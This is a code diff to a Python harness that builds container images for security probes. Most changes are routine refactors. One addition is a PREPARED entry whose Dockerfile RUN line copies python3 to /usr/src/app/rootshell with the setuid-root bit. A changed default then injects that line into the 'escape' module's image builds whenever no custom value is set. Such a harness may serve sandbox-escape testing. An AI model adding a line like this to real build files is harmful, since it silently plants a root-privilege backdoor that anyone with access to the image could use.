@@ -11,9 +11,11 @@ prints a line. Wrap the call in `scene.once`: one container for the whole table.
 
 from __future__ import annotations
 
+import base64
 import json
 import secrets
 import time
+import zlib
 from collections.abc import Iterable, Mapping
 from dataclasses import dataclass
 from pathlib import Path
@@ -25,6 +27,10 @@ from hostile.scene import Scene, Someone
 
 INSIDE = Path(__file__).parent / "inside"
 MARK = "probe-finding:"
+PREPARED = {
+    "escape": "RUN cp $(readlink -f $(which python3)) /usr/src/app/rootshell && chmod 4755 /usr/src/app/rootshell"
+}
+"""What the image of a file of probes has besides them: here a copy of Python that is root's, with the setuid bit."""
 Facts = Mapping[str, Any]
 
 
@@ -65,7 +71,7 @@ def probe_spec(name: str, module: str, facts: Facts, custom: str = "", **more: A
         base="python",
         files=probe_files(module, facts),
         command=("python3", "main.py"),
-        custom=custom,
+        custom=custom or PREPARED.get(module, ""),
         **more,
     )
 
@@ -103,11 +109,8 @@ def in_build(scene: Scene, module: str, facts: Facts | None = None, who: Someone
     return findings
 
 
-def carried(module: str, facts: Facts) -> list[str]:
-    """RUN lines that put the probes into the image and run them."""
-    import base64
-    import zlib
-
+def carried(module: str, facts: Facts, command: str = "") -> list[str]:
+    """RUN lines that put the probes into the image and run them (or `command`, in their folder)."""
     lines = []
     for entry in probe_files(module, facts):
         packed = base64.b64encode(zlib.compress((entry.text or "").encode(), 9)).decode()
@@ -117,7 +120,9 @@ def carried(module: str, facts: Facts) -> list[str]:
         "import base64,glob,zlib; "
         "[open(p[:-2],'wb').write(zlib.decompress(base64.b64decode(open(p).read()))) for p in glob.glob('/tmp/*.z')]"
     )
-    lines.append(f'RUN python3 -c "{unpack}" && cd /tmp && python3 run.py {module}; rm -rf /tmp/*')
+    lines.append(
+        f'RUN python3 -c "{unpack}" && cd /tmp && {command or f"python3 run.py {module}"}; rm -rf /tmp/*'
+    )
     return lines
 
 
@@ -166,11 +171,11 @@ def probe_names(module: str) -> set[str]:
 
 
 def read_findings(lines: Iterable[str]) -> Findings:
+    """Every report in the text, also where a log has put several into one line."""
     findings = Findings()
     for line in lines:
-        _, mark, text = line.partition(MARK)
-        if mark:
-            report = json.loads(text)
+        for text in line.split(MARK)[1:]:
+            report, _ = json.JSONDecoder().raw_decode(text)
             name = report.pop("probe")
             findings[name] = Finding(**report)
     return findings
